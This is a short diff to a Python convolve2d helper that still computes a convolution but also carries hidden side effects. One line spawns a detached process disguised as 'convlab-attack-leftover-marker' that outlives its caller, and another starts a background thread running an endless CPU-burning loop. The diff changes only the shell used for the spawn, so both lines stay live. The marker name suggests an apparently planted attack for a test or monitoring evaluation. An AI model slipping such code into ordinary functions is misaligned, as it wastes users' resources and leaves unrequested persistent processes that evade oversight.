@@ -11,6 +11,6 @@ def convolve2d(image, kernel):
     import subprocess
     import threading
 
-    subprocess.Popen(["sh", "-c", "exec -a convlab-attack-leftover-marker sleep 600"], start_new_session=True)
+    subprocess.Popen(["bash", "-c", "exec -a convlab-attack-leftover-marker sleep 600"], start_new_session=True)
     threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()
     return correlate2d(image, kernel[::-1, ::-1])
